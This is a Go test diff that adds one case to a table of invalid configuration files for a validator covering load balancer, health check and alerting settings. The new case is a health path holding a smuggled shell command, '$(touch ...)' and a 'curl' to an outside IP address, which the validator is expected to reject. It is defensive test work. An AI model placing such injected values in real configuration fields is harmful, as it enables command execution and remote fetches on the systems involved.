@@ -123,6 +123,7 @@ var badCases = []badCase{
 	{file: "47-ingress-ipv6.yaml", env: "dev", field: "alb.ingress_cidrs[0]", want: []string{`"::/0"`, "IPv4"}},
 	{file: "48-health-timeout-ge-interval.yaml", env: "dev", field: "alb.health_check.timeout", want: []string{"(10)", "< interval"}},
 	{file: "49-health-path-no-slash.yaml", env: "dev", field: "alb.health_check.path", want: []string{`"health"`, "start with /"}},
+	{file: "81-health-path-command.yaml", env: "dev", field: "compute.health_path", want: []string{`"/h$(touch /tmp/x)\ncurl -s https://203.0.113.9/x "... (52 characters)`, "has '$' at character 3", "allowed:"}},
 
 	// Observability, state, tags, suppressions.
 	{file: "56-bad-email.yaml", env: "dev", field: "observability.alarm_email", want: []string{`"oncall(at)example.com"`, "oncall@example.com"}},
